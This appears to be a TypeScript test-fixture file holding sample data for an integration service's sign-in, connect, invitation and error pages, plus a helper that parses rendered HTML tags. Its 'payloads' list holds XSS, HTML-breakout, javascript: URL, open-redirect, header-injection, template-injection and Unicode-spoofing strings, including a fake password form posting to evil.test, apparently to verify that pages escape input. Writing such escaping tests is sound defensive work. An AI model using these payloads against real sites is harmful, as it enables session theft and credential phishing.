import { assert } from 'vitest'
import type { AnotherAccountPage } from '../../src/http/pages/another-account.ts'
import type { CallbackPage } from '../../src/http/pages/callback.ts'
import type { CliLoginPage } from '../../src/http/pages/cli-login.ts'
import type { ConnectPage, ConnectSubject } from '../../src/http/pages/connect.ts'
import type { InvitationPage } from '../../src/http/pages/invitation.ts'
import type { ProblemPage } from '../../src/http/pages/problem.ts'
import type { ResetPasswordPage } from '../../src/http/pages/reset-password.ts'
import type { SetUpPage } from '../../src/http/pages/set-up.ts'
import type { SignInPage } from '../../src/http/pages/sign-in.ts'

/* One of everything that a page can show. */

const passwordLength = { minimum: 10, maximum: 200 }

export const setUp: SetUpPage = {
  token: 'set-up-token',
  errors: [
    { path: 'password', message: 'A password has 10 characters at least.' },
    { path: '', message: 'This set-up link is not valid.' },
  ],
  values: { organization_name: 'Acme', name: 'Ada Lovelace', email: 'ada@example.test' },
  passwordLength,
}

export const signIn: SignInPage = {
  returnTo: '/connect?connection=mailchimp',
  email: 'ada@example.test',
  error: 'This e-mail and password do not belong together.',
  notice: 'You are signed out.',
}

export const subject: ConnectSubject = {
  service: 'Mailchimp',
  serviceKind: 'custom',
  organization: 'Acme',
  connectionName: 'Newsletter',
  linkName: 'mailchimp_newsletter',
  asksFor: 'Ada Lovelace',
  owner: 'Ben Carter',
  scopes: [
    { name: 'campaigns.read', description: 'See campaigns and their results' },
    { name: 'lists.write', description: '' },
  ],
  hosts: ['*.api.mailchimp.com', 'login.mailchimp.com'],
  access: { members: ['m1', 'm2'] },
  useLoginUserCredentials: false,
}

export const redirect: ConnectPage = {
  ...subject,
  kind: 'redirect',
  continueUrl: '/connect/f1/continue',
  authorizeHost: 'login.mailchimp.com',
}

export const fields: ConnectPage = {
  ...subject,
  kind: 'fields',
  action: '/connect?connection=mailchimp_newsletter',
  fields: [
    {
      name: 'subdomain',
      display_name: 'Your subdomain',
      secret: false,
      prefix: 'https://',
      suffix: '.zendesk.example',
      placeholder: 'acme',
      example: 'acme-support',
    },
    { name: 'region', display_name: 'Data centre', secret: false, choices: ['Europe', 'United States'] },
    { name: 'username', display_name: 'Username', secret: false, help_url: 'https://example.test/where' },
    { name: 'api-key', display_name: 'API key', secret: true, help_url: 'https://example.test/key' },
  ],
  errors: [
    { path: 'variables.subdomain', message: 'This stands in a host name.' },
    { path: 'credentials.api-key', message: 'A value is needed.' },
    { path: 'credentials', message: 'The service did not accept these values.' },
  ],
  values: { subdomain: 'acme', region: 'United States', username: 'ada', 'api-key': 'SECRET-VALUE' },
}

export const anotherAccount: AnotherAccountPage = {
  service: 'Mailchimp',
  organization: 'Acme',
  connectionName: 'Newsletter',
  linkName: 'newsletter',
  user: 'Ada',
  before: 'ada@acme.example',
  now: 'grace@other.example',
  works: true,
  access: 'organization',
  useLoginUserCredentials: false,
  action: '/connect/0190-ee/account',
}

export const callback: CallbackPage = {
  outcome: 'failed',
  service: 'Mailchimp',
  connection: 'Newsletter',
  providerWords: 'invalid_client: unknown client',
  diagnosis: 'The service refuses the client id or secret.',
  retryUrl: '/connect?connection=mailchimp',
  requestId: '0190-aa',
}

export const invitation: InvitationPage = {
  token: 'invitation-token',
  organization: 'Acme',
  email: 'ben@example.test',
  role: 'developer',
  mode: 'new',
  errors: [{ path: 'name', message: 'A name is needed.' }],
  passwordLength,
  values: { name: 'Ben' },
}

export const reset: ResetPasswordPage = {
  token: 'reset-token',
  email: 'ada@example.test',
  errors: [{ path: 'password', message: 'A password has 10 characters at least.' }],
  passwordLength,
}

export const cliLogin: CliLoginPage = {
  code: 'BCDF-GHJK',
  user: 'Ada Lovelace',
  organization: 'Acme',
  done: false,
  error: 'This login has expired.',
}

export const problem: ProblemPage = {
  status: 404,
  title: 'There is nothing here',
  sentence: 'Check the address.',
  requestId: '0190-bb',
  action: { label: 'Read the documentation', url: '/docs' },
}

/** X22: what people and services put into names, descriptions and error messages. */
export const payloads = [
  '<script>window.__x=1</script>',
  '</script><script>window.__x=1</script>',
  '"><script>window.__x=1</script>',
  "'><script>window.__x=1</script>",
  '<img src=x onerror=window.__x=1>',
  '"><img src=x onerror=window.__x=1>',
  '" onfocus="window.__x=1" autofocus="',
  "' onfocus='window.__x=1' autofocus='",
  '" style="position:fixed;inset:0" x="',
  '` onmouseover=window.__x=1 `',
  'x onmouseover=window.__x=1 y',
  '/><svg onload=window.__x=1>',
  '<svg><script>window.__x=1</script></svg>',
  '<svg><foreignObject><iframe src="javascript:window.__x=1"></iframe></foreignObject></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=window.__x=1></style></mglyph></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__x=1>">',
  '<template><script>window.__x=1</script></template>',
  '</title><script>window.__x=1</script>',
  '</textarea><script>window.__x=1</script>',
  '</style><script>window.__x=1</script>',
  '</option></select><script>window.__x=1</script>',
  '</main></body></html><h1>Other page</h1>',
  '</code></pre><form action="https://evil.test"><input name=password>',
  '<!-- ',
  '--><script>window.__x=1</script>',
  '<![CDATA[<script>window.__x=1</script>]]>',
  '<?xml version="1.0"?>',
  '<a href="javascript:window.__x=1">here</a>',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<form action=https://evil.test><button>',
  'javascript:window.__x=1',
  ' javascript:window.__x=1',
  'JaVaScRiPt:window.__x=1',
  'java\tscript:window.__x=1',
  '\u0001javascript:window.__x=1',
  'javascript&colon;window.__x=1',
  'data:text/html,<script>window.__x=1</script>',
  'vbscript:msgbox(1)',
  '//evil.test/path',
  '/\\evil.test/path',
  '/\t/evil.test/path',
  'https:evil.test',
  'https://user:password@evil.test/',
  'https://evil.test/"><script>window.__x=1</script>',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '[click](javascript:window.__x=1)',
  'url(https://evil.test/x.png); background: red',
  '&lt;script&gt;window.__x=1&lt;/script&gt;',
  '&#60;script&#62;',
  '%3Cscript%3E %22 %27',
  'line\u2028separator\u2029paragraph\u0085next',
  'nul\0 bell\x07 escape\x1b[2J delete\x7f c1\x9b31m',
  'return\r\nSet-Cookie: a=b',
  'evil\u202Etxt.exe \u2066isolate\u2069 \u200Emark\u200F',
  'zero\u200Bwidth\u200C\u2060\uFEFF soft\u00ADhyphen tag\u{E0041}',
  'half \uD800 pair \uDC00',
  'ｆｕｌｌｗｉｄｔｈ＜script＞',
  'مرحبا بالعالم',
  '👩🏽‍💻 e\u0301',
  '',
  ' ',
  '__proto__',
  'constructor',
  '0',
]

export interface Tag {
  readonly name: string
  readonly attributes: ReadonlyMap<string, string>
}

export const decoded = (value: string) =>
  value.replace(/&(lt|gt|quot|amp|#39);/g, (_, entity: string) => ({ lt: '<', gt: '>', quot: '"', amp: '&', '#39': "'" })[entity] ?? '')

/** The tags of a page. Everything between them must be free of `<`, so nothing is missed; attributes must be bare or in double quotes. */
export function tagsOf(page: string): Tag[] {
  const tag = /<(?:!doctype html|(\/?[a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?)>/g
  assert.notMatch(page.replace(tag, ''), /[<>]/, 'a bracket outside a well-formed tag')
  return [...page.matchAll(tag)].map(([, name = '!doctype', attributes = '']) => ({
    name,
    attributes: new Map([...attributes.matchAll(/([a-zA-Z-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, decoded(value)])),
  }))
}
